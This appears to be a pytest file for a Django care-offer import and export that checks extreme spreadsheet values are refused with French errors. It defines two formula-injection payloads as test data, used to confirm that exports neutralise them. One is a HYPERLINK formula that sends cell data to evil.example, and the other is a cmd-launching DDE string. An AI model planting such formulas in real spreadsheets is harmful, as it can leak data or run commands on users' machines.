"""The care-offer import and the subsidies text against extreme input (issue 11, points 3 to 5).

Every value beyond its range gets a French error naming the row and column (or the line of the
subsidies text), never a 500, and nothing of the file is written; names that look like formulas
leave the export as text and come back unchanged.
"""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from careoffer import spreadsheet
from careoffer.models import Dispositif, Structure, Subvention
from core.limits import IMPORT_MAX_ROWS
from tests.factories import CommuneFactory, DepartementFactory, DispositifFactory, StructureFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def aube():
    return DepartementFactory()


@pytest.fixture
def commune(aube):
    return CommuneFactory(departement=aube)


@pytest.fixture
def agent(client, aube):
    client.force_login(UserFactory(ars=True, departement=aube))
    return client


def _csv(columns, *rows, name="offre.csv"):
    lines = [";".join(c.header for c in columns)]
    for values in rows:
        cells = {c.key: "" for c in columns} | values
        lines.append(";".join(str(cells[c.key]) for c in columns))
    return SimpleUploadedFile(name, ("\n".join(lines) + "\n").encode("utf-8"), "text/csv")


def _post(client, upload):
    response = client.post(reverse("careoffer_import", args=["10"]), {"fichier": upload})
    assert response.status_code == 200, "an error stays on the page"
    return response.content.decode()


def _plain(text: str) -> str:
    """Compare messages whatever the kind of space around « », : and in numbers."""
    return text.replace("\u202f", " ").replace("\u00a0", " ").replace("&#x27;", "'")


def _error(html: str, columns, key: str) -> str:
    """The error about the third row of « offre.csv » in the column of ``key``, spaces made plain."""
    header = next(c.header for c in columns if c.key == key)
    where = f"« offre.csv », ligne 3, colonne « {header} » : "
    errors = [line.strip() for line in _plain(html).splitlines() if where in line]
    assert errors, f"no error on {where}"
    return errors[0]


def _counts():
    return Structure.objects.count(), Dispositif.objects.count(), Subvention.objects.count()


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("nb_medecins", "99999999999999999999", "« 99999999999999999999 » : 32767 au plus."),
        ("nb_medecins", "1e30", "nombre entier attendu, « 1e30 » lu."),
        ("nb_medecins", "²", "nombre entier attendu, « ² » lu."),
        ("date_ouverture", "31/12/9999", "« 31/12/9999 » est hors de la période acceptée"),
        ("date_projet", "01/01/0001", "« 01/01/0001 » est hors de la période acceptée"),
        ("prevision", "T1 9999", "année 9999 hors de la période acceptée (1900 à 2100)."),
        ("prevision", "0000", "année 0000 hors de la période acceptée (1900 à 2100)."),
    ],
)
def test_a_structure_value_out_of_range_names_its_row_and_column(agent, commune, key, value, message):
    upload = _csv(
        spreadsheet.COLUMNS,
        {"type": "MSP", "nom": "MSP correcte", "commune": commune.code},
        {"type": "MSP", "nom": "MSP extrême", "commune": commune.code, key: value},
    )
    assert _plain(message) in _error(_post(agent, upload), spreadsheet.COLUMNS, key)
    assert _counts() == (0, 0, 0)


SCHEME_CASES = [
    ("budget_annuel", "1e30", "« 1e30 » : 9 999 999 999,99\u00a0€ au plus."),
    ("budget_annuel", "1e308", "« 1e308 » : 9 999 999 999,99\u00a0€ au plus."),
    ("budget_annuel", "inf", "« inf » n’est pas un montant."),
    ("budget_annuel", "nan", "« nan » n’est pas un montant."),
    ("budget_annuel", "12,345", "« 12,345 » : deux décimales au plus."),
    ("heures_hebdo", "1e30", "« 1e30 » : 168 au plus."),
    ("heures_hebdo", "168,5", "« 168,5 » : 168 au plus."),
    ("capacite", "70000", "« 70000 » : 32767 au plus."),
    ("subventions", "2023 : 1e40", "2023 : « 1e40 » : 9 999 999 999,99\u00a0€ au plus."),
    ("subventions", "2023 : 1e308", "2023 : « 1e308 » : 9 999 999 999,99\u00a0€ au plus."),
    ("subventions", "2023 : inf", "2023 : « inf » n’est pas un montant."),
    ("subventions", "9999 : 100", "9999 : année 9999 hors de la période acceptée (1900 à 2100)."),
    ("annee_scolaire_ouverture", "9999", "année 9999 hors de la période acceptée (1900 à 2100)."),
]


@pytest.mark.parametrize(("key", "value", "message"), SCHEME_CASES)
def test_a_scheme_value_out_of_range_names_its_row_and_column(agent, commune, key, value, message):
    upload = _csv(
        spreadsheet.SCHEME_COLUMNS,
        {"type": "GEM", "nom": "GEM correct", "commune": commune.code, "heures_hebdo": "35"},
        {"type": "UEMA", "nom": "UEMA extrême", "commune": commune.code, key: value},
    )
    assert _plain(message) in _error(_post(agent, upload), spreadsheet.SCHEME_COLUMNS, key)
    assert _counts() == (0, 0, 0)


def test_a_huge_number_typed_in_a_workbook_cell_is_an_error_not_a_500(agent, commune):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(spreadsheet.SCHEME_HEADERS)
    row = {h: None for h in spreadsheet.SCHEME_HEADERS} | {
        "Type": "GEM",
        "Nom": "GEM des grands nombres",
        "Commune (code INSEE)": commune.code,
        "Heures d'ouverture par semaine": 1e308,
        "Budget annuel (€)": 1e308,
        "Capacité (places)": 1e30,
    }
    sheet.append([row[h] for h in spreadsheet.SCHEME_HEADERS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    html = _plain(_post(agent, SimpleUploadedFile("offre.xlsx", buffer.getvalue())).replace("&#x27;", "'"))
    assert "colonne « Budget annuel (€) » : « 1e+308 » : 9 999 999 999,99 € au plus." in html
    assert "colonne « Heures d'ouverture par semaine » : « 1e+308 » : 168 au plus." in html
    assert "colonne « Capacité (places) » : « 1e+30 » : 32767 au plus." in html
    assert _counts() == (0, 0, 0)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("2023 : 1e40", "Ligne 1 : « 1e40 » : 9 999 999 999,99 € au plus."),
        ("2022 : 100\n2023 : 1e308", "Ligne 2 : « 1e308 » : 9 999 999 999,99 € au plus."),
        ("2023 : inf", "Ligne 1 : « inf » n’est pas un montant."),
        ("2023 : nan", "Ligne 1 : « nan » n’est pas un montant."),
        ("2023 : 12,345", "Ligne 1 : « 12,345 » : deux décimales au plus."),
        ("2023 : -5", "Ligne 1 : « -5 » n’est pas un montant positif ou nul."),
        ("9999 : 100", "Ligne 1 : année hors de la période acceptée (1900 à 2100)."),
    ],
)
def test_the_subsidies_text_of_a_scheme_refuses_extreme_amounts_in_french(agent, commune, text, message):
    gem = DispositifFactory(departement=commune.departement, commune=commune)
    response = agent.post(
        reverse("careoffer_dispositif_edit", args=[gem.pk]),
        {
            "type": gem.type,
            "nom": gem.nom,
            "commune_code": commune.code,
            "heures_hebdo": "35",
            "subventions_texte": text,
            "version": gem.version,
        },
    )
    assert response.status_code == 200
    assert message in _plain(response.content.decode())
    assert not Subvention.objects.exists()


def test_french_amounts_are_read_in_the_subsidies_text(agent, commune):
    gem = DispositifFactory(departement=commune.departement, commune=commune)
    response = agent.post(
        reverse("careoffer_dispositif_edit", args=[gem.pk]),
        {
            "type": gem.type,
            "nom": gem.nom,
            "commune_code": commune.code,
            "heures_hebdo": "35",
            "subventions_texte": "2023 : 1 000,50 €\n2024 : 9 999 999 999,99",
            "version": gem.version,
        },
    )
    assert response.status_code == 302
    assert [str(s.montant) for s in gem.subventions.order_by("annee")] == ["1000.50", "9999999999.99"]


def test_a_file_over_the_row_limit_is_refused_before_anything_is_written(agent, commune):
    rows = [{"type": "MSP", "nom": f"MSP {n}", "commune": commune.code} for n in range(IMPORT_MAX_ROWS + 1)]
    html = _post(agent, _csv(spreadsheet.COLUMNS, *rows))
    assert f"« offre.csv » : plus de {IMPORT_MAX_ROWS} lignes de données." in html
    assert _counts() == (0, 0, 0)


def test_the_row_limit_counts_data_rows_of_each_sheet(agent, commune, monkeypatch):
    monkeypatch.setattr(spreadsheet, "IMPORT_MAX_ROWS", 2)
    workbook = openpyxl.Workbook()
    structures = workbook.active
    structures.title = "Structures"
    structures.append(spreadsheet.HEADERS)
    for n in (1, 2):
        structures.append(["MSP", f"MSP {n}", commune.code])
        structures.append([None])  # empty rows do not count
    schemes = workbook.create_sheet("Dispositifs")
    schemes.append(spreadsheet.SCHEME_HEADERS)
    for n in (1, 2, 3):
        schemes.append(["UEMA", None, f"UEMA {n}", commune.code])
    buffer = io.BytesIO()
    workbook.save(buffer)
    html = _post(agent, SimpleUploadedFile("offre.xlsx", buffer.getvalue()))
    assert "« offre.xlsx », feuille « Dispositifs » : plus de 2 lignes de données." in html
    assert "feuille « Structures » : plus de" not in html
    assert _counts() == (0, 0, 0)


@pytest.mark.parametrize("cell", ["MSP\x00", "x" * 200_000])
def test_a_csv_with_a_nul_byte_or_a_huge_cell_is_a_french_error(agent, cell):
    upload = SimpleUploadedFile("offre.csv", f"Type;Nom\nMSP;{cell}\n".encode(), "text/csv")
    assert "n’est pas un fichier CSV lisible" in _post(agent, upload)
    assert _counts() == (0, 0, 0)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_like_formulas_come_back_unchanged_after_export_and_import(client, agent, commune, fmt):
    StructureFactory(departement=commune.departement, commune=commune, nom=HYPERLINK, observations=AT_SUM)
    DispositifFactory(departement=commune.departement, commune=commune, nom=AT_SUM, observations=HYPERLINK)
    exported = client.get(reverse("careoffer_export", args=["10", fmt])).content
    assert b"'=HYPERLINK" in exported or fmt == "xlsx"
    response = agent.post(
        reverse("careoffer_import", args=["10"]), {"fichier": SimpleUploadedFile(f"offre.{fmt}", exported)}, follow=True
    )
    assert "Aucun changement" in response.content.decode()
    assert list(Structure.objects.values_list("nom", "observations")) == [(HYPERLINK, AT_SUM)]
    assert list(Dispositif.objects.values_list("nom", "observations")) == [(AT_SUM, HYPERLINK)]


def test_a_territory_of_more_communes_than_a_cpts_covers_is_refused(agent, commune):
    codes = " ".join(f"{n:05d}" for n in range(10_000, 11_001))
    upload = _csv(
        spreadsheet.COLUMNS,
        {"type": "MSP", "nom": "MSP correcte", "commune": commune.code},
        {"type": "CPTS", "nom": "CPTS démesurée", "commune": commune.code, "communes": codes},
    )
    assert "1 000 communes au plus." in _error(_post(agent, upload), spreadsheet.COLUMNS, "communes")
    assert _counts() == (0, 0, 0)
